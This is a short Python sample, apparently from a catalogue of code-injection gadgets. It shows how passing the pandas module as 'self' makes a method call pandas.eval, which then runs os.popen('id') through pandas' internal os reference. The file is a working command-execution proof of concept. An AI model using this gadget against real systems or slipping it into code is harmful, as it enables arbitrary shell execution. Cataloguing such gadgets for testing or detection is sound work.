# source: pandas eval/query code injection (pandas-dev/pandas issues on DataFrame.query/pd.eval attribute access & '@' locals; "pd.io.common.os" gadget)
# family: class-body direct call of a method function with a foreign self (the pandas module) -> self.eval is pandas.eval with a run-time string
# goal: pandas.eval resolves attribute chains itself -> os.popen('id')
import pandas as pd
class Calc:
    def eval(self, e, **kw):
        return None
    def run(self, e):
        return self.eval(e)
    out = run(pd, "pd.io.common.os.popen('id').read()")
print(Calc.out)
